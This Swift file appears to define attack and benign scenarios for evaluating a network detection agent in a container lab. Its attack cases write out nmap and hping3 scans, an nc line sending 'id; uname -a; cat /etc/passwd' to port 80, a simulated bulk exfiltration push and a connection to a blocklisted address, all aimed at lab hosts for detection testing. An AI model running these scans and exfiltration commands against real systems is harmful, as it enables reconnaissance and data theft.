import Foundation
import PodwallLab
import Synchronization

/// The lab an evaluation runs in: who attacks, who is attacked, who serves,
/// and two bystanders that carry `--load` (and take the attacker's flood).
public struct EvalPods: Sendable {
    public let lab: Lab
    public let attacker: Lab.Pod
    public let victim: Lab.Pod
    public let web: Lab.Pod
    public let bystander: Lab.Pod
    public let loadServer: Lab.Pod
    /// The attacker floods new UDP flows for the whole run (`--load`).
    public let attackerFloods: Bool
    /// The attacker pod's container, where the process scenarios play (nil
    /// when none of the selected scenarios needs it).
    public let app: Container?
    /// HTTP exchanges the benign scenarios completed (a reply came back).
    public let exchanges = Tally()
    /// What a scenario says about its run, for the progress line (taken per run).
    public let notes = Notes()
    /// The blocklist scenario lists it; port 8088 there listens for what should never arrive.
    public static let blockedAddress = Lab.internetAddress2

    init(lab: Lab, attackerFloods: Bool, app: Container?) {
        self.lab = lab
        (attacker, victim, web, bystander, loadServer) = (lab.pods[0], lab.pods[1], lab.pods[2], lab.pods[3], lab.pods[4])
        self.attackerFloods = attackerFloods
        self.app = app
    }

    struct NoContainer: Error, CustomStringConvertible {
        var description: String { "the attacker pod has no container" }
    }

    /// Lines that scenarios add and the runner takes per run.
    public final class Notes: Sendable {
        private let lines = Mutex<[String]>([])

        public func add(_ line: String) { lines.withLock { $0.append(line) } }

        /// The lines so far, emptied.
        public func take() -> [String] {
            lines.withLock { lines in
                defer { lines = [] }; return lines
            }
        }
    }

    /// A count that scenarios add to and the runner takes per run.
    public final class Tally: Sendable {
        private let count = Atomic<Int>(0)

        public func add(_ value: Int) { count.wrappingAdd(value, ordering: .relaxed) }

        /// The count so far, set back to 0.
        public func take() -> Int { count.exchange(0, ordering: .relaxed) }
    }
}

/// One thing that happens in the lab, with the alert it should (or should not) raise.
public struct EvalScenario: Sendable {
    /// The pillar a scenario exercises, and the table that reports it.
    public enum Group: String, Sendable, Codable {
        case network, process, baseline, file
    }

    public let name: String
    /// The alert kind expected; nil: benign, no alert at all.
    public let expected: String?
    /// Tools it needs (skipped, and said so, when one is missing).
    public let tools: [String]
    /// What the expected alert's response does to the attacker's traffic,
    /// and where the attacker's packets arrive when they get through (nil for
    /// benign scenarios: nothing to measure at a target).
    public let measured: (response: Delivery.Response, target: Receiver.Target)?
    /// Other alert kinds the scenario raises by design, counted apart
    /// (`ScenarioResult.acceptedAlerts`), not as false alerts: the
    /// `network_tool` alert for the nc of `mkfifo` + `nc`.
    public var accepted: [String] = []
    /// Plays in the attacker pod's container (`EvalPods.app`); its marker
    /// files are counted after every run.
    public var inContainer = false
    /// A baseline scenario: plays in a new workload (`BaselineWorkload`)
    /// each run, against an agent whose learning window is
    /// `EvalRunner.learningSeconds`; nil for every other scenario.
    public var inNewWorkload: (@Sendable (EvalPods, BaselineWorkload) throws -> Void)?
    /// The program (basename) the expected alert names, for a baseline scenario.
    public var expectedBinary: String?
    public var group = Group.network
    /// The root of a new workload's container (`inNewWorkload`).
    public var workloadRoot = ContainerRoot.readOnly
    /// Marker files in a new workload's /shared are counted after each run
    /// (`inNewWorkload`; an `inContainer` scenario's always are).
    public var countsMarkers = false
    public let play: @Sendable (EvalPods) throws -> Void

    public static func attack(
        _ name: String, _ expected: String, tools: [String], response: Delivery.Response,
        target: Receiver.Target, _ play: @escaping @Sendable (EvalPods) throws -> Void
    ) -> EvalScenario {
        EvalScenario(name: name, expected: expected, tools: tools, measured: (response, target), play: play)
    }

    public static func benign(_ name: String, tools: [String], _ play: @escaping @Sendable (EvalPods) throws -> Void) -> EvalScenario {
        EvalScenario(name: name, expected: nil, tools: tools, measured: nil, play: play)
    }

    /// A scenario in the attacker pod's container: `expected` nil for a
    /// benign one. Nothing measured at a target: what counts is the process
    /// (killed, and whether the shell ran the attacker's first command).
    static func inContainer(
        _ name: String, _ expected: String?, accepted: [String] = [], tools: [String],
        _ play: @escaping @Sendable (EvalPods, Container) throws -> Void
    ) -> EvalScenario {
        var scenario = EvalScenario(name: name, expected: expected, tools: ["runc"] + tools, measured: nil) { pods in
            guard let app = pods.app else { throw EvalPods.NoContainer() }
            try play(pods, app)
        }
        scenario.accepted = accepted
        scenario.inContainer = true
        scenario.group = .process
        return scenario
    }
}

extension EvalScenario {
    static func nmap(_ pods: EvalPods, _ arguments: [String]) throws {
        try pods.lab.inPod(pods.attacker, ["nmap", "-Pn", "-n", "--max-retries", "0", "--host-timeout", "8s"] + arguments, check: false)
    }

    /// The payload, and a second later the same again, as a tunnel keeps
    /// talking: the block (in force a few ms after the first) has something
    /// to stop. nc closes its side once its input ends.
    static func sendToPort80(_ pods: EvalPods, _ printfFormat: String) throws {
        try pods.lab.inPod(
            pods.attacker,
            ["sh", "-c", "(printf '\(printfFormat)'; sleep 1; printf '\(printfFormat)') | nc -q 1 -w 3 \(Lab.internetAddress) 80"],
            check: false)
    }

    /// Fetches `url` with curl from the attacker (a URL glob such as
    /// `page[1-150]` is one connection per page: the server closes after each
    /// reply) and counts the replies.
    static func fetch(_ pods: EvalPods, _ url: String, _ options: [String] = []) throws {
        // The bodies go to /dev/null, the status codes to stderr.
        let result = try pods.lab.inPod(
            pods.attacker,
            ["sh", "-c", "exec curl -s -m 3 -w '%{stderr}%{http_code}\\n' \"$@\" > /dev/null", "curl"]
                + options + [url], check: false)
        pods.exchanges.add(result.error.split(separator: "\n").count { $0 != "000" })
    }

    /// A SYN scan of ports 1-1000 of the victim while the attacker floods new UDP flows.
    static func scanWhileFlooding(_ pods: EvalPods) throws {
        let flood = pods.attackerFloods ? nil : try EvalServices.startFlood(pods)
        defer { flood?.terminate() }
        usleep(1_000_000)  // the flood is at full rate when the scan starts
        try nmap(pods, ["-sS", "-p", "1-1000", pods.victim.ipv4])
    }

    /// Every scenario: the network's, then the processes', the process baseline's and the files'.
    public static var all: [EvalScenario] { network + processes + baseline + files }

    /// The network scenarios, attacks first.
    public static let network: [EvalScenario] = [
        attack("nmap connect scan, vertical", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
            try nmap($0, ["-sT", "-p", "1-1000", $0.victim.ipv4])
        },
        attack("nmap SYN scan, vertical", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
            try nmap($0, ["-sS", "-p", "1-1000", $0.victim.ipv4])
        },
        attack("nmap SYN scan in 8-byte fragments", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
            try nmap($0, ["-sS", "-f", "-p", "1-500", $0.victim.ipv4])
        },
        attack("nmap SYN scan, slower timing (-T2)", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
            try nmap($0, ["-sS", "-T2", "-p", "1-40", $0.victim.ipv4])
        },
        attack(
            "nmap connect sweep, horizontal (/24, port 80)", "port_scan", tools: ["nmap"], response: .quarantine,
            target: .node(network: "198.19.1.0/24")
        ) {
            try nmap($0, ["-sT", "-T5", "-p", "80", "198.19.1.0/24"])
        },
        attack("nmap UDP scan", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
            try nmap($0, ["-sU", "-T5", "-p", "1-200", $0.victim.ipv4])
        },
        attack("nmap FIN scan", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
            try nmap($0, ["-sF", "-p", "1-1000", $0.victim.ipv4])
        },
        attack("nmap NULL scan", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
            try nmap($0, ["-sN", "-p", "1-1000", $0.victim.ipv4])
        },
        attack("nmap Xmas scan", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
            try nmap($0, ["-sX", "-p", "1-1000", $0.victim.ipv4])
        },
        attack("nmap ACK scan", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
            try nmap($0, ["-sA", "-p", "1-1000", $0.victim.ipv4])
        },
        attack(
            "nmap SYN scan while the pod floods new UDP flows (5,000/s)", "port_scan", tools: ["nmap", "python3"],
            response: .quarantine, target: .victim
        ) {
            try scanWhileFlooding($0)
        },
        attack("hping3 SYN sweep of 150 ports", "port_scan", tools: ["hping3"], response: .quarantine, target: .victim) { pods in
            // -n: no reverse lookup, which would hang on a pod without DNS.
            try pods.lab.inPod(
                pods.attacker,
                Shell.withSignalsUnblocked(
                    ["timeout", "-s", "KILL", "5", "hping3", "-n", "-S", "-p", "++1", "-c", "150", "-i", "u3000", pods.victim.ipv4]),
                check: false)
        },
        attack("SSH banner to port 80", "protocol_mismatch", tools: ["nc"], response: .block, target: .internet(Lab.internetAddress)) {
            try sendToPort80($0, "SSH-2.0-OpenSSH_9.2\\r\\n")
        },
        attack(
            "TLS ClientHello to port 80", "protocol_mismatch", tools: ["nc"], response: .block,
            target: .internet(Lab.internetAddress)
        ) {
            try sendToPort80($0, "\\026\\003\\001\\000\\245\\001\\000\\000\\241\\003\\003\\125\\125\\125\\125\\125\\125\\125\\125")
        },
        attack(
            "shell commands to port 80", "protocol_mismatch", tools: ["nc"], response: .block,
            target: .internet(Lab.internetAddress)
        ) {
            try sendToPort80($0, "id; uname -a; cat /etc/passwd\\n")
        },
        attack(
            "bulk push to the internet after a quiet warm-up", "exfiltration", tools: ["nc"], response: .block,
            target: .internet(Lab.internetAddress)
        ) { pods in
            for _ in 0..<10 {
                try pods.lab.inPod(
                    pods.attacker, ["sh", "-c", "head -c 2000 /dev/zero | nc -q 0 -w 1 \(Lab.internetAddress) 9000"], check: false)
                usleep(500_000)
            }
            try pods.lab.inPod(
                pods.attacker, ["sh", "-c", "head -c 200000000 /dev/zero | nc -q 0 -w 5 \(Lab.internetAddress) 9000"], check: false)
        },
        attack(
            "connection to a blocklisted address", "blocklist_hit", tools: ["nc"], response: .blockedFromStart,
            target: .internet(EvalPods.blockedAddress)
        ) { pods in
            try pods.lab.inPod(pods.attacker, ["sh", "-c", "echo secret | nc -q 1 -w 2 \(EvalPods.blockedAddress) 8088"], check: false)
        },
        benign("HTTP/1.1 requests on port 80, 150 connections (headers and body written apart)", tools: ["curl"]) { pods in
            try fetch(pods, "http://\(pods.web.ipv4)/page[1-150]")
        },
        benign("HTTP/2 prior-knowledge client on port 80 (the server answers HTTP/0.9-style)", tools: ["curl"]) { pods in
            try fetch(pods, "http://\(pods.web.ipv4)/", ["--http2-prior-knowledge"])
        },
        benign("DNS-like UDP queries", tools: ["nc"]) { pods in
            for _ in 0..<5 {
                try pods.lab.inPod(
                    pods.attacker, ["sh", "-c", "printf '\\022\\064\\001\\000\\000\\001' | nc -u -q 0 -w 1 \(pods.web.ipv4) 53"],
                    check: false)
            }
        },
        benign("steady iperf3 bulk flow", tools: ["iperf3"]) { pods in
            try pods.lab.inPod(pods.attacker, ["iperf3", "-c", pods.web.ipv4, "-p", "5301", "-t", "3"], check: false)
        },
        benign("health-check polling across pods", tools: ["curl"]) { pods in
            for _ in 0..<5 {
                for target in [pods.web, pods.victim] { try fetch(pods, "http://\(target.ipv4)/healthz", ["-m", "1"]) }
            }
        },
        benign("a client retrying a refused connection", tools: ["nc"]) { pods in
            for _ in 0..<3 {
                try pods.lab.inPod(pods.attacker, ["nc", "-z", "-w", "1", pods.web.ipv4, "8081"], check: false)
                usleep(200_000)
            }
        }
    ]
}
